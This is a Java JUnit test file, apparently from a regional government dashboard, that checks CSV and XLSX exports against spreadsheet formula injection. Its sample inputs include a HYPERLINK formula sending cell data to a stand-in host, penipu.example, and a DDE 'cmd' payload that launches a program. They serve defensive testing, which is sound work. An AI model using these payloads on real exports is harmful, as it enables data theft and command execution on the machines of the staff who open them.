package id.go.mimikakab.dashboard.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Text a citizen typed never runs as a spreadsheet formula when staff open an export: CSV cells that begin with
 * = + - @ tab or carriage return get a leading apostrophe; XLSX cells are written as text, never as formulas.
 */
class ExportFormulaInjectionTests {

    static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://penipu.example/?d=\"&A1;\"Klik\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1;2", "=\"\";\"x\"");

    static final List<ExportColumn> COLUMNS = List.of(new ExportColumn("dash.export.col.description", ExportColumn.Kind.TEXT, 60));

    @Test
    void everyCsvCellThatCouldStartAFormulaStartsWithAnApostrophe() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ExportWriter writer = ExportFormat.CSV.open(out, "laporan", COLUMNS, List.of("Uraian"));
        for (String formula : FORMULAS) {
            writer.row(List.of(formula));
        }
        writer.row(List.of("Jalan rusak = bahaya"));
        writer.finish();

        List<String> cells = csvCells(out.toString(StandardCharsets.UTF_8));
        assertThat(cells).hasSize(FORMULAS.size() + 2);
        for (int i = 0; i < FORMULAS.size(); i++) {
            assertThat(cells.get(i + 1)).as(FORMULAS.get(i)).isEqualTo("'" + FORMULAS.get(i));
        }
        assertThat(cells.get(cells.size() - 1)).as("text with an = inside is left as it is").isEqualTo("Jalan rusak = bahaya");
    }

    @TempDir
    Path directory;

    @Test
    void xlsxCellsHoldTheTextAsTextAndNoFormula() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ExportWriter writer = ExportFormat.XLSX.open(out, "laporan", COLUMNS, List.of("Uraian"));
        for (String formula : FORMULAS) {
            writer.row(List.of(formula));
        }
        writer.finish();

        StringBuilder sheets = new StringBuilder();
        StringBuilder strings = new StringBuilder();
        Path file = Files.write(directory.resolve("laporan.xlsx"), out.toByteArray());
        try (ZipFile zip = new ZipFile(file.toFile())) {
            for (ZipEntry entry : java.util.Collections.list(zip.entries())) {
                String xml = new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8);
                if (entry.getName().startsWith("xl/worksheets/")) {
                    sheets.append(xml);
                } else if (entry.getName().equals("xl/sharedStrings.xml")) {
                    strings.append(xml);
                }
            }
        }
        assertThat(sheets.toString()).doesNotContain("<f>").doesNotContain("<f ");
        assertThat(sheets.toString().split("<c ", -1).length - 1).isEqualTo(FORMULAS.size() + 1);
        assertThat(sheets.toString()).doesNotContainPattern("<c [^>]*t=\"(?!s\"|inlineStr\"|str\")");
        assertThat(strings.toString()).contains("HYPERLINK(&quot;http://penipu.example/");
    }

    /** The first column of each line of a semicolon-separated file, unquoted. */
    private static List<String> csvCells(String csv) {
        List<String> cells = new ArrayList<>();
        String text = csv.startsWith("\uFEFF") ? csv.substring(1) : csv;
        int i = 0;
        while (i < text.length()) {
            StringBuilder cell = new StringBuilder();
            if (text.charAt(i) == '"') {
                i++;
                while (i < text.length()) {
                    char c = text.charAt(i++);
                    if (c == '"' && i < text.length() && text.charAt(i) == '"') {
                        cell.append('"');
                        i++;
                    } else if (c == '"') {
                        break;
                    } else {
                        cell.append(c);
                    }
                }
            }
            while (i < text.length() && !text.startsWith("\r\n", i)) {
                cell.append(text.charAt(i++));
            }
            i += 2;
            cells.add(cell.toString());
        }
        return cells;
    }
}
